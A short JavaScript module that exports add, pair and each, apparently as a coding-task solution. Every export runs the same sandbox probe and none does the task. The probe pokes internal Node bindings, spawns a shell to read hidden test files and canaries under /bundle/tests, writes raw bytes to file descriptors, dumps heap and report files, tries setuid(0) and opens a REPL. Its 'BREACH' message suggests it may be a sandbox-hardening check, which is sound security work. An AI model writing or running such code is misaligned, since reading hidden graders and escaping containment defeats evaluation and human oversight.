const quiet = (work) => { try { return work(); } catch (error) { return String(error); } };
const look = () => {
  for (const name of ['fs', 'spawn_sync', 'process_wrap', 'pipe_wrap', 'tcp_wrap', 'natives', 'contextify', 'inspector', 'worker', 'messaging', 'v8', 'util']) quiet(() => process.binding(name));
  const ran = quiet(() => process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'cat /bundle/tests/* /sock/* 2>&1; ls -R /bundle'], stdio: [{ type: 'ignore' }, { type: 'pipe', readable: false, writable: true }] }));
  if (ran && ran.output && /CANARY[-]|target\.test/.test(String(ran.output[1]))) console.log('BREACH' + ': a shell saw the tests');
  quiet(() => new (require('worker_threads').Worker)('const fs = require("fs"); for (const d of [1, 2, 3, 4, 5, 6, 7, 8]) try { fs.writeSync(d, "\\0\\0\\0\\2{}"); } catch {} try { console.log(fs.readdirSync("/bundle")); } catch {}', { eval: true }));
  quiet(() => require('vm').runInThisContext('import("node:child_process").then((one) => one.execSync("cat /bundle/tests/*"))'));
  quiet(() => require('v8').writeHeapSnapshot('/work/heap'));
  quiet(() => process.report.writeReport('/work/report.json'));
  quiet(() => process.setuid(0));
  quiet(() => require('wasi'));
  quiet(() => require('repl').start());
  return 0;
};
module.exports = { add: look, pair: look, each: look };
